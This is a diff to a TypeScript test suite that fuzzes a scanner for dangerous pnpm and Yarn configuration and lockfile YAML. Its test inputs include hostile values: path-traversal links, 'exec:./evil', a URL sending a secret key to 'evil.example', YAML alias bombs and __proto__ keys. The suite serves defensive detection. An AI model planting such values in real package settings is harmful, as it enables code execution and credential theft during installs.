@@ -212,7 +212,7 @@ describe('a folder outside of the project is no package', () => {
     const says = 'Moved: https://github.com/ada/x, git.';
     const files = {
       [`${functions}/.npmrc`]: '; C:\\tools\n# \\x41\nsave-exact=true\n',
-      [`${functions}/pnpm-lock.yaml`]: `packages:\n\n  a@1.0.0:\n    deprecated: ${says}\n\n  b@1.0.0:\n    deprecated: "${says}\\r\\n\\x1b\\"."\n\n  c@1.0.0:\n    deprecated: |-\n      ${says}\n`,
+      [`${functions}/pnpm-lock.yaml`]: `packages:\n\n  a@1.0.0:\n    deprecated: '${says}'\n\n  b@1.0.0:\n    deprecated: "${says}\\r\\n\\x1b\\"."\n\n  c@1.0.0:\n    deprecated: |-\n      ${says}\n`,
       [`${functions}/package-lock.json`]: JSON.stringify({
         packages: {
           'node_modules/a': { version: '1.0.0', deprecated: says, funding: says },
@@ -495,7 +495,7 @@ update-notifier=false\nglobal=true\nignore-scripts=true\nstrict-ssl=true\n; a co
       {
         [rc]: `shamefully-hoist=true\nauto-install-peers=true\nnode-linker=hoisted\nstrict-peer-dependencies=false
 public-hoist-pattern[]=*eslint*\nlink-workspace-packages=true\nprefer-workspace-packages=true\n`,
-        [yaml]: `# all\n---\npackages:\n  - a\n- "b/*"\nonlyBuiltDependencies:\n- b\ncatalog:\n  react: ^18.0.0
+        [yaml]: `# all\n---\npackages:\n- a\n- "b/*"\nonlyBuiltDependencies:\n- b\ncatalog:\n  react: ^18.0.0
 overrides:\n  'a>b': ^1.0.0\nminimumReleaseAge: 1440\nallowBuilds:\n  esbuild: true\n`,
         [manifest]: '{"pnpm": {"overrides": {"a": "1"}, "patchedDependencies": {"a": "patches/a.patch"}}}',
       },
@@ -546,7 +546,7 @@ test('a file that is too large to be looked through stops it', () => {
   expect(projectSettings('npm', place).dangers).toHaveLength(1);
 });
 
-describe('a YAML file that only the package manager can read for certain stops the install', () => {
+describe('YAML is judged by what it says, however that is written', () => {
   const outside = 'link:../../../../../victim';
   const spellings: readonly ((value: string) => string)[] = [
     (value) => `overrides:\n  a: &x ${value}\n`,
@@ -581,15 +581,131 @@ describe('a YAML file that only the package manager can read for certain stops t
     'ignoredOptionalDependencies:\n  - &x ../victim\npackages: [*x]\n',
     'packages:\n  - !!str x\n',
   ])('as texts are joined or named: %j', (text) => {
-    expect(settingsFor('pnpm', { [yaml]: text }).dangers).toEqual([
-      `${yaml} is written in a way that only the package manager can read`,
-    ]);
+    expect(settingsFor('pnpm', { [yaml]: text }).dangers).toHaveLength(1);
   });
 
-  test('but not one as it is usually written', () => {
+  const hexadecimal = (text: string) =>
+    text.replace(/./g, (one) => `\\x${one.charCodeAt(0).toString(16).padStart(2, '0')}`);
+  const quoted: readonly ((text: string) => string)[] = [
+    (text) => `'${text}'`,
+    (text) => JSON.stringify(text),
+    (text) => `"${hexadecimal(text)}"`,
+    (text) => `"${text.slice(0, 1)}\\\n      ${text.slice(1)}"`,
+  ];
+  const texts = [
+    ...quoted,
+    (text: string) => text,
+    (text: string) => `>-\n      ${text}`,
+    (text: string) => `|-\n      ${text}`,
+  ];
+  const signs = ['', '!!str ', '! ', '&x ', '!!str &x '];
+  const blocks: readonly ((setting: string, key: string, value: string, other: string) => string)[] = [
+    (setting, key, value) => `${setting}:\n  ${key}: ${value}\n`,
+    (setting, key, value) => `# all\n---\n"${hexadecimal(setting)}": !!map\n    '${key}': ${value}\n...\n`,
+    (setting, key, value) => `? ${setting}\n: ? &k ${key}\n  : ${value}\n`,
+    (setting, key, value, other) => `${other}: &a ${value.replace('&x ', '')}\n${setting}:\n  ${key}: *a\n`,
+    (setting, key, value, other) => `${other}: &a\n  ${key}: ${value}\n${setting}: *a\n`,
+  ];
+  const flows: typeof blocks = [
+    (setting, key, value) => `${setting}: {${key}: ${value}}\n`,
+    (setting, key, value) => `{\n "${setting}" : { "${key}":${value}, }\n}\n`,
+  ];
+  const ways = fc.oneof(
+    fc.record({ text: fc.constantFrom(...texts), file: fc.constantFrom(...blocks) }),
+    fc.record({ text: fc.constantFrom(...quoted), file: fc.constantFrom(...flows) }),
+  );
+  const harmful = [
+    outside,
+    'git+file:///victim',
+    'file:/victim',
+    'exec:./evil',
+    'https://evil.example/${SHOP_KEY}',
+  ];
+
+  test.each<[PackageManager, string, string, string]>([
+    ['pnpm', yaml, 'overrides', 'savePrefix'],
+    ['pnpm', yaml, 'catalog', 'packageImportMethod'],
+    ['yarn', '.yarnrc.yml', 'packageExtensions', 'initScope'],
+    ['yarn', '.yarnrc.yml', 'npmRegistries', 'initScope'],
+    ['pnpm', `${functions}/pnpm-lock.yaml`, 'packages', 'a'],
+    ['pnpm', `${functions}/node_modules/.modules.yaml`, 'hoistedDependencies', 'a'],
+  ])('%s: %s with %s', (packageManager, file, setting, other) => {
+    const dangersOf = (text: string) =>
+      new Set(settingsFor(packageManager, { [file]: text }, { SHOP_KEY: 'canary' }).dangers);
+    const harmless = fc.stringMatching(/^[a-z][a-z0-9./-]{0,12}[a-z0-9]$/);
+    fc.assert(
+      fc.property(
+        fc.oneof(fc.constantFrom(...harmful), harmless),
+        fc.stringMatching(/^[a-z][a-z0-9]{0,5}$/),
+        fc.constantFrom(...signs),
+        ways,
+        (text, key, sign, way) => {
+          const spelled = way.file(setting, key, `${sign}${way.text(text)}`, other);
+          const plain = `${other}: "${text}"\n${setting}:\n  ${key}: "${text}"\n`;
+          const isRepeated = spelled.includes(other);
+          const expected = isRepeated ? dangersOf(plain) : dangersOf(plain.replace(/.*\n/, ''));
+          expect(dangersOf(spelled), spelled).toEqual(expected);
+        },
+      ),
+      { numRuns: 60 },
+    );
+  });
+
+  const repeated = Array.from(
+    { length: 40 },
+    (_, depth) => `a${depth + 1}: &a${depth + 1} [*a${depth}, *a${depth}]\n`,
+  );
+  const nested = Array.from({ length: 9999 }, (_, depth) => `a${depth + 1}: &a${depth + 1} [*a${depth}]\n`);
+
+  test.each<[string, string]>([
+    ['merged mappings', 'x: &x\n  a: b\noverrides:\n  <<: *x\n'],
+    ['a key twice', 'overrides:\n  a: "1"\n  a: "2"\n'],
+    ['a tag', 'overrides:\n  a: !!binary bGluazovdmljdGlt\n'],
+    ['a tag of its own', '%TAG ! tag:yaml.org,2002:\n---\noverrides:\n  a: !binary bGluazovdmljdGlt\n'],
+    ['a null byte', 'overrides:\n  a: "1"\n\0'],
+    ['aliases that repeat without end', `a0: &a0 [x]\n${repeated.join('')}`],
+    ['aliases that are too deep', `a0: &a0 [x]\n${nested.join('')}`],
+    ['an alias of what it is in', 'overrides: &x\n  a: *x\n'],
+    ['too many levels', `overrides: ${'['.repeat(9999)}${']'.repeat(9999)}\n`],
+    ['no YAML', 'overrides:\n\ta: sk_live_1234\n b'],
+  ])('what only the package manager can read for certain stops the install: %s', (_, text) => {
+    for (const file of [yaml, `${functions}/pnpm-lock.yaml`, `${functions}/node_modules/.modules.yaml`])
+      expect(settingsFor('pnpm', { [file]: text }).dangers).toEqual([
+        `${file} is written in a way that only the package manager can read`,
+      ]);
+  });
+
+  test('a key has no effect on the program itself', () => {
+    const text = `__proto__:\n  a: ${outside}\noverrides:\n  __proto__: ${outside}\n`;
+    expect(settingsFor('pnpm', { [yaml]: text }).dangers).toHaveLength(2);
+    expect(settingsFor('pnpm', { [`${functions}/pnpm-lock.yaml`]: text }).dangers).toHaveLength(1);
+    expect(Object({}).a).toBeUndefined();
+  });
+
+  test('a lockfile may have several documents, of which each is looked at; settings may not', () => {
+    const lock = (version: string) =>
+      `---\nsettings: {}\n---\nimporters:\n  .:\n    dependencies:\n      a:\n        version: ${version}\n`;
+    const file = `${functions}/pnpm-lock.yaml`;
+    expect(settingsFor('pnpm', { [file]: lock('1.0.0') }).dangers).toEqual([]);
+    expect(settingsFor('pnpm', { [file]: lock(outside) }).dangers).toHaveLength(1);
+    expect(
+      settingsFor('pnpm', { [yaml]: '---\nsaveExact: true\n---\nsaveExact: true\n' }).dangers,
+    ).toHaveLength(1);
+  });
+
+  test('a lockfile of Yarn 4 is looked at as YAML, too', () => {
+    const file = `${functions}/yarn.lock`;
+    const lock = (resolution: string) =>
+      `__metadata:\n  version: 8\n\n"a@npm:^1":\n  resolution: ${resolution}\n`;
+    expect(settingsFor('yarn', { [file]: lock('"a@npm:1.0.0"') }).dangers).toEqual([]);
+    for (const one of ['a@git@x.example:a#com\\\n    mit=1', 'a@../\\\n    ../../victim/\\\n    ../../x'])
+      expect(settingsFor('yarn', { [file]: lock(`"${one}"`) }).dangers).toHaveLength(1);
+  });
+
+  test('but nothing is wrong with one as it is usually written', () => {
     const text = [
       '# all',
-      'packages:\n  # ours\n  - src/*.functions # here\n\n  - "packages/*"\n- \'{apps,libs}/*\'\n  - "!**/test/**"',
+      'packages:\n  # ours\n  - src/*.functions # here\n\n  - "packages/*"\n  - \'{apps,libs}/*\'\n  - "!**/test/**"',
       'catalog:\n  react: &react ^18.0.0\n  react-dom: *react\n  "@a/b": \'npm:@c/d@1\'\n  e: ">=1 <2"\n  f: \'\'',
       "catalogs: { old: { a: 1, '@b/c': ^2 } }",
       'overrides:\n  a@>=1 <2: ">=1.0.1"\n  "b>c": $d\n  e: "-"\n  f: npm:g@1\n\n  h: workspace:*',
